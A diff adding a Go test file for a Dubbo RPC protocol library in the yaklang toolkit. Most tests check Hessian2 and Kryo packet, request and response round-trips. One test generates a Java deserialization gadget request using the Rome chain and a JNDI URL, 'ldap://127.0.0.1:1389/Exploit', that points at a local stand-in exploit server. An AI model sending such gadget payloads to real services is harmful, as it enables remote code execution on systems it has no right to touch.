@@ -0,0 +1,128 @@
+package dubbo
+
+import (
+	"bytes"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+	"github.com/yaklang/yaklang/common/yserx/hessian"
+	"github.com/yaklang/yaklang/common/yserx/kryo"
+)
+
+func TestPacket(t *testing.T) {
+	p := &Packet{Request: true, TwoWay: true, Serialization: SerializationHessian2, ID: 1, Body: []byte("N")}
+	raw := p.Marshal()
+	require.Equal(t, "\xda\xbb\xc2\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x01N", string(raw))
+
+	parsed, err := ParsePacket(append(raw, "tail"...))
+	require.NoError(t, err)
+	require.Equal(t, p, parsed)
+	require.Equal(t, len(raw), parsed.Size())
+
+	for _, raw := range []string{"\xda\xbb", "HTTP/1.1 200 OK\r\n\r\n", "\xda\xbb\xc2\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x02N"} {
+		_, err := ParsePacket(raw)
+		require.Error(t, err, "%q", raw)
+	}
+}
+
+func TestRequest_Hessian2(t *testing.T) {
+	r := NewRequest("org.apache.dubbo.demo.DemoService", "sayHello", "world", 1)
+	r.ID = 2
+	raw, err := r.Marshal()
+	require.NoError(t, err)
+	require.Equal(t, "\xda\xbb\xc2\x00", string(raw[:4]))
+	body := raw[HeaderSize:]
+	require.True(t, bytes.HasPrefix(body, []byte("\x052.0.2\x30\x21org.apache.dubbo.demo.DemoService\x050.0.0\x08sayHello\x13Ljava/lang/String;I\x05world\x91H")))
+
+	parsed, err := ParseRequest(raw)
+	require.NoError(t, err)
+	require.EqualValues(t, 2, parsed.ID)
+	require.Equal(t, "sayHello", parsed.Method)
+	require.Equal(t, "Ljava/lang/String;I", parsed.ParameterTypes)
+	require.Len(t, parsed.Args, 2)
+	require.Equal(t, hessian.NewString("world"), parsed.Args[0])
+	require.Equal(t, "org.apache.dubbo.demo.DemoService", parsed.Attachments["interface"])
+	require.Equal(t, "0.0.0", parsed.Attachments["version"])
+
+	again, err := parsed.Marshal()
+	require.NoError(t, err)
+	require.Equal(t, raw, again)
+
+	_, err = ParseResponse(raw)
+	require.Error(t, err)
+}
+
+func TestRequest_Kryo(t *testing.T) {
+	opt := kryo.WithRegister(10, "java.util.HashMap")
+	r := NewRequest("a.B", "c", kryo.NewObject("a.Arg").SetFinal("name", "x"))
+	r.Serialization = SerializationKryo
+	raw, err := r.Marshal(opt)
+	require.NoError(t, err)
+	require.Equal(t, byte(0xc8), raw[2])
+	require.True(t, bytes.HasPrefix(raw[HeaderSize:], []byte("2.0.\xb2a.\xc20.0.\xb0\x82cLa/Arg\xbb")))
+
+	parsed, err := ParseRequest(raw, opt, kryo.WithClassSchema("a.Arg", "name:java.lang.String"))
+	require.NoError(t, err)
+	require.Equal(t, "La/Arg;", parsed.ParameterTypes)
+	arg := parsed.Args[0].(*kryo.Value)
+	name, ok := arg.Get("name")
+	require.True(t, ok)
+	require.Equal(t, "x", name.String)
+	require.Equal(t, "a.B", parsed.Attachments["path"])
+
+	// 缺少类结构时无法读取参数
+	_, err = ParseRequest(raw, opt)
+	require.Error(t, err)
+}
+
+func TestResponse(t *testing.T) {
+	for _, serialization := range []byte{SerializationHessian2, SerializationKryo} {
+		for _, r := range []*Response{
+			{ID: 3, Serialization: serialization, Status: StatusOK, Value: "hello"},
+			{ID: 4, Serialization: serialization, Status: StatusOK, Attachments: map[string]string{"k": "v"}},
+			{ID: 5, Serialization: serialization, Status: StatusServiceError, ErrorMessage: "Service not found"},
+		} {
+			raw, err := r.Marshal()
+			require.NoError(t, err)
+			parsed, err := ParseResponse(raw)
+			require.NoError(t, err)
+			require.Equal(t, r.ID, parsed.ID)
+			require.Equal(t, r.Status, parsed.Status)
+			require.Equal(t, r.ErrorMessage, parsed.ErrorMessage)
+			require.Equal(t, r.Attachments, parsed.Attachments)
+			if r.Value != nil {
+				require.Equal(t, ResponseValue, parsed.Flag)
+				require.NotNil(t, parsed.Value)
+			}
+		}
+	}
+
+	raw := (&Packet{Serialization: SerializationHessian2, Status: StatusOK, Body: []byte{0x96}}).Marshal()
+	_, err := ParseResponse(raw)
+	require.Error(t, err)
+	raw = (&Packet{Serialization: SerializationFst, Status: StatusOK, Body: []byte{0x01}}).Marshal()
+	_, err = ParseResponse(raw)
+	require.Error(t, err)
+}
+
+func TestGenerateGadgetRequest(t *testing.T) {
+	raw, err := GenerateGadgetRequest("org.apache.dubbo.demo.DemoService", "sayHello", "Rome", "ldap://127.0.0.1:1389/Exploit")
+	require.NoError(t, err)
+	r, err := ParseRequest(raw)
+	require.NoError(t, err)
+	require.Equal(t, "Ljava/lang/Object;", r.ParameterTypes)
+	require.Equal(t, hessian.TypeMap, r.Args[0].(*hessian.Value).Type)
+
+	_, err = GenerateGadgetRequest("a", "b", "Unknown")
+	require.Error(t, err)
+}
+
+func TestSplitDesc(t *testing.T) {
+	types, err := splitDesc("I[[Ljava/lang/String;J[B")
+	require.NoError(t, err)
+	require.Equal(t, []string{"I", "[[Ljava/lang/String;", "J", "[B"}, types)
+	for _, desc := range []string{"[", "Ljava/lang/String", "X"} {
+		_, err := splitDesc(desc)
+		require.Error(t, err, desc)
+	}
+}